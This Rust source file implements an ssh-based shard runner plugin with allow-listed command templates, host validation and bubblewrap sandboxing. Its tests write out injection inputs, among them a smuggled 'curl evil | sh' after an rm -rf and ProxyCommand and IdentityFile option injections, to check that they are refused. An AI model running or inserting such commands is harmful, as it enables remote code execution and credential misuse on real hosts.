//! `mst/runner/ssh`: shards on a list of hosts over OpenSSH. The plugin returns a command
//! channel (ssh templates); the host runs them with the `ssh` the operator granted, places its
//! worker on a host that has no mst of the same version, and talks the shard protocol over the
//! exec channel. Files move as tar streams (`tar` on the host's side of the ssh connection).
//!
//! Options: `hosts` (required: `[user@]host[:port]`, comma-separated; shard `i` goes to host
//! `i mod n`), `identity` (a private key file), `knownHosts` (a known_hosts file; host keys
//! are then checked strictly), `workdir` (the directory under which each shard gets its own,
//! default `/tmp`), `connectTimeout` (seconds, default 10), `isolation` (`bwrap`, the
//! default: the worker runs each program of each trial in a bubblewrap sandbox of its own on
//! the host, seeing the system read-only and writing only its trial's directories, and a
//! host without bubblewrap refuses the shard saying what to install; `none`: trials run as
//! the ssh user, seeing what it sees).
//!
//! Capabilities: `ssh`, one argv template per remote command line (the worker's, a tar
//! stream in, one out, `mktemp -d` and `rm -rf` of a shard's directory under `workdir`), with
//! only the options [`SSH_OPTIONS`] names. The host refuses anything else, `-oProxyCommand=…`
//! or a second remote command, even though `ssh` itself is granted.

use mst_sdk::runner::{
    self, Capability, CommandChannel, ErrorCode, Machine, MachineSpec, PluginError, PluginInfo,
    Runner, Shard,
};
use serde::{Deserialize, Serialize};

/// The `ssh` runner.
pub struct Ssh;

#[derive(Deserialize)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
struct Options {
    hosts: String,
    identity: Option<String>,
    known_hosts: Option<String>,
    #[serde(default = "default_workdir")]
    workdir: String,
    #[serde(default = "default_connect_timeout")]
    connect_timeout: u32,
    #[serde(default)]
    isolation: Isolation,
}

/// Whether the worker sandboxes its trials' programs on the host.
#[derive(Deserialize, Default, Clone, Copy, PartialEq, Debug)]
#[serde(rename_all = "lowercase")]
enum Isolation {
    #[default]
    Bwrap,
    None,
}

/// The words before the worker's command on the host that ask it to sandbox each trial's
/// programs (mst's `MST_TRIAL_SANDBOX`, a JSON request: nothing exposed besides the system).
const SANDBOXED: [&str; 2] = ["env", r#"MST_TRIAL_SANDBOX='{"expose":[]}'"#];

fn default_workdir() -> String {
    "/tmp".into()
}

fn default_connect_timeout() -> u32 {
    10
}

const SCHEMA: &str = r#"{
  "type": "object",
  "additionalProperties": false,
  "required": ["hosts"],
  "properties": {
    "hosts": {"type": "string", "minLength": 1},
    "identity": {"type": "string", "pattern": "^/"},
    "knownHosts": {"type": "string", "pattern": "^/"},
    "workdir": {"type": "string", "pattern": "^(/[A-Za-z0-9._-]+)+$"},
    "connectTimeout": {"type": "integer", "minimum": 1, "maximum": 600},
    "isolation": {"type": "string", "enum": ["bwrap", "none"]}
  }
}"#;

/// `ssh`'s arguments up to the destination, as [`Target::ssh_args`] writes them, in template
/// words: options spelled `-oName=value` so that each is one word, those it writes only
/// sometimes in brackets, the key files pinned to the operator's options. The destination
/// comes from the operator's `hosts` list, which a pattern cannot name, so it is `*` (never an
/// option, never shell syntax).
const SSH_OPTIONS: &[&str] = &[
    "-T",
    "-oBatchMode=yes",
    "-oConnectTimeout={option:connectTimeout=10}",
    "-oServerAliveInterval=5",
    "-oServerAliveCountMax=3",
    "-oLogLevel=ERROR",
    "[-oIdentitiesOnly=yes]",
    "[-oIdentityFile={option:identity}]",
    "[-oUserKnownHostsFile={option:knownHosts}]",
    "[-oStrictHostKeyChecking=yes]",
    "[-oPort=*]",
    "--",
    "*",
];

/// The remote command lines besides the worker's, each one word (ssh joins its words into one
/// line for the remote shell, so a wildcard never matches a space or shell syntax): unpack a
/// tar stream into the work directory, pack files of it, make a shard's directory under the
/// operator's `workdir`, remove it.
const PUT: &str = "tar -x -f - -C {workdir}";
const GET: &str = "tar -c -f - -C {workdir} {src}";
const MKTEMP: &str = "mktemp -d {option:workdir=/tmp}/mst-*-XXXXXXXX";
const REMOVE: &str = "rm -rf {option:workdir=/tmp}/mst-*";

/// What the plugin declares: one `ssh` template per remote command line.
fn declared() -> Vec<Capability> {
    let remotes = [
        exec_line(Isolation::Bwrap),
        exec_line(Isolation::None),
        vec![PUT],
        vec![GET],
        vec![MKTEMP],
        vec![REMOVE],
    ];
    remotes
        .iter()
        .map(|remote| runner::exec_template("ssh", &[SSH_OPTIONS, remote].concat()))
        .collect()
}

/// The remote command line that starts the worker (`{command}`) in its work directory.
fn exec_line(isolation: Isolation) -> Vec<&'static str> {
    let mut line = vec!["cd", "{workdir}", "&&", "exec"];
    if isolation == Isolation::Bwrap {
        line.extend(SANDBOXED);
    }
    line.push("{command}");
    line
}

/// One host and how to reach it; also the machine id `dispose-machine` gets back, since
/// disposal receives no options.
#[derive(Serialize, Deserialize, Clone, Debug, PartialEq)]
struct Target {
    destination: String,
    port: Option<u16>,
    identity: Option<String>,
    known_hosts: Option<String>,
    connect_timeout: u32,
    /// This shard's work directory on the host.
    dir: String,
}

impl Target {
    /// `ssh` arguments up to and including the destination.
    fn ssh_args(&self) -> Vec<String> {
        let mut args = vec![
            "-T".to_string(),
            "-oBatchMode=yes".into(),
            format!("-oConnectTimeout={}", self.connect_timeout),
            "-oServerAliveInterval=5".into(),
            "-oServerAliveCountMax=3".into(),
            "-oLogLevel=ERROR".into(),
        ];
        if let Some(identity) = &self.identity {
            args.push("-oIdentitiesOnly=yes".into());
            args.push(format!("-oIdentityFile={identity}"));
        }
        if let Some(known) = &self.known_hosts {
            args.push(format!("-oUserKnownHostsFile={known}"));
            args.push("-oStrictHostKeyChecking=yes".into());
        }
        if let Some(port) = self.port {
            args.push(format!("-oPort={port}"));
        }
        args.push("--".into());
        args.push(self.destination.clone());
        args
    }

    /// An argv template: `ssh`, its arguments, then the remote command line's words.
    fn template(&self, remote: &[&str]) -> Vec<String> {
        let mut argv = vec!["ssh".to_string()];
        argv.extend(self.ssh_args());
        argv.extend(remote.iter().map(|w| w.to_string()));
        argv
    }

    /// Runs `remote` (one shell command line) on the host; its stdout.
    fn run(&self, remote: &str) -> Result<String, PluginError> {
        let mut args = self.ssh_args();
        args.push(remote.to_string());
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let timeout_ms = (self.connect_timeout + 20) * 1000;
        let out = runner::exec("ssh", &args, &[], timeout_ms)?;
        if out.status != 0 {
            let stderr = String::from_utf8_lossy(&out.stderr);
            return Err(runner::error(
                ErrorCode::Unavailable,
                format!(
                    "ssh {} `{remote}` exited with {}: {}",
                    self.destination,
                    out.status,
                    stderr.trim()
                ),
            ));
        }
        Ok(String::from_utf8_lossy(&out.stdout).trim().to_string())
    }
}

/// A destination (`[user@]host`) and its port, if given.
type Host = (String, Option<u16>);

fn parse(options: &str) -> Result<(Options, Vec<Host>), PluginError> {
    let options: Options = runner::options(options)?;
    let hosts = options
        .hosts
        .split(',')
        .map(str::trim)
        .filter(|h| !h.is_empty())
        .map(parse_host)
        .collect::<Result<Vec<_>, _>>()?;
    if hosts.is_empty() {
        return Err(invalid("`hosts` names no host"));
    }
    Ok((options, hosts))
}

fn invalid(message: impl Into<String>) -> PluginError {
    runner::error(ErrorCode::InvalidOptions, message)
}

/// `[user@]host[:port]`. A destination never starts with `-` (ssh would read an option).
fn parse_host(text: &str) -> Result<Host, PluginError> {
    let (destination, port) = match text.rsplit_once(':') {
        Some((d, p)) if !d.contains(':') => {
            let port = p
                .parse::<u16>()
                .map_err(|_| invalid(format!("`hosts`: {text:?} has a bad port {p:?}")))?;
            (d, Some(port))
        }
        _ => (text, None),
    };
    let plain = destination
        .chars()
        .all(|c| c.is_ascii_alphanumeric() || "@._-[]:".contains(c));
    if destination.is_empty() || destination.starts_with('-') || !plain {
        return Err(invalid(format!(
            "`hosts`: {text:?} is not `[user@]host[:port]`"
        )));
    }
    Ok((destination.to_string(), port))
}

/// Run ids go into directory names: keep what is plainly safe.
fn plain(text: &str) -> String {
    text.chars()
        .filter(|c| c.is_ascii_alphanumeric() || "._-".contains(*c))
        .collect()
}

impl Runner for Ssh {
    fn info() -> PluginInfo {
        PluginInfo {
            name: "mst/runner/ssh".into(),
            version: env!("CARGO_PKG_VERSION").into(),
            description: "Shards on hosts reached over OpenSSH".into(),
            capabilities: declared(),
            options_schema: Some(SCHEMA.into()),
        }
    }

    fn check_options(options: &str) -> Result<(), PluginError> {
        parse(options).map(|_| ())
    }

    fn create_machine(shard: Shard, options: &str) -> Result<Machine, PluginError> {
        let (options, hosts) = parse(options)?;
        let (destination, port) = hosts[shard.index as usize % hosts.len()].clone();
        let mut target = Target {
            destination,
            port,
            identity: options.identity,
            known_hosts: options.known_hosts,
            connect_timeout: options.connect_timeout,
            dir: String::new(),
        };
        // Reach the host now (a wrong key or a dead host fails this shard in ssh's own words)
        // and make a fresh private directory: `mktemp -d` creates it 0700 under a name nobody
        // could have prepared on a shared host, and a resumed shard never reuses a kept one.
        let made = target.run(&format!(
            "mktemp -d {}/mst-{}-{}-XXXXXXXX",
            options.workdir,
            plain(&shard.run_id),
            shard.index
        ))?;
        if !made.starts_with('/')
            || made.len() > 200
            || plain(&made.replace('/', "")) != made.replace('/', "")
        {
            return Err(runner::error(
                ErrorCode::Unavailable,
                format!(
                    "mktemp on {} printed {made:?}, not a plain path",
                    target.destination
                ),
            ));
        }
        target.dir = made;
        let description = match port {
            Some(port) => format!("{}:{port} (ssh)", target.destination),
            None => format!("{} (ssh)", target.destination),
        };
        Ok(Machine {
            id: serde_json::to_string(&target).expect("serializable"),
            description,
            spec: MachineSpec::Command(CommandChannel {
                exec: target.template(&exec_line(options.isolation)),
                put: target.template(&[PUT]),
                get: target.template(&[GET]),
                workdir: target.dir.clone(),
            }),
        })
    }

    fn dispose_machine(id: &str, keep: bool) -> Result<(), PluginError> {
        let target: Target = serde_json::from_str(id)
            .map_err(|e| invalid(format!("not a machine of this plugin: {e}")))?;
        if keep {
            return Ok(());
        }
        target.run(&format!("rm -rf {}", target.dir)).map(|_| ())
    }
}

mst_sdk::export_runner!(Ssh);

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hosts_parse_and_refuse_options() {
        assert_eq!(parse_host("ci-1").unwrap(), ("ci-1".into(), None));
        assert_eq!(
            parse_host("root@127.0.0.1:2201").unwrap(),
            ("root@127.0.0.1".into(), Some(2201))
        );
        assert!(parse_host("-oProxyCommand=x").is_err());
        assert!(parse_host("a b").is_err());
        assert!(parse_host("h:99999").is_err());
        assert!(parse(r#"{"hosts":" , "}"#).is_err());
        assert!(parse(r#"{"hosts":"a","privileged":true}"#).is_err());
    }

    #[test]
    fn every_command_is_a_declared_template_and_no_other_is() {
        let target = Target {
            destination: "root@h".into(),
            port: Some(2201),
            identity: Some("/k/id".into()),
            known_hosts: Some("/k/known".into()),
            connect_timeout: 5,
            dir: "/scratch/mst-r-0-AbC123xy".into(),
        };
        let given = [
            ("identity", "/k/id"),
            ("knownHosts", "/k/known"),
            ("connectTimeout", "5"),
            ("workdir", "/scratch"),
        ];
        let admitted = |argv: &[String]| runner::exec_admitted(&declared(), &given, "ssh", argv);
        let remote = |line: &str| {
            let mut argv = target.ssh_args();
            argv.push(line.to_string());
            argv
        };
        for isolation in [Isolation::Bwrap, Isolation::None] {
            assert!(admitted(&target.template(&exec_line(isolation))[1..]));
        }
        for line in [
            PUT,
            GET,
            "mktemp -d /scratch/mst-r-0-XXXXXXXX",
            "rm -rf /scratch/mst-r-0-AbC123xy",
        ] {
            assert!(admitted(&remote(line)), "{line}");
        }
        // Another directory, a second command, another key, an option smuggled in: refused.
        for line in [
            "rm -rf /home/u/mst-x",
            "rm -rf /scratch/mst-x/..",
            "rm -rf /scratch/mst-x; curl evil | sh",
            "rm -rf /scratch/mst-*",
        ] {
            assert!(!admitted(&remote(line)), "{line}");
        }
        let mut other_key = remote(PUT);
        other_key[7] = "-oIdentityFile=/home/u/.ssh/id_rsa".into();
        assert!(!admitted(&other_key), "{other_key:?}");
        let mut proxy = remote(PUT);
        proxy.insert(1, "-oProxyCommand=sh -c id".into());
        assert!(!admitted(&proxy));
        assert_eq!(&target.template(&["{command}"])[1..], remote("{command}"));
        let id = serde_json::to_string(&target).unwrap();
        assert_eq!(serde_json::from_str::<Target>(&id).unwrap(), target);
    }
}
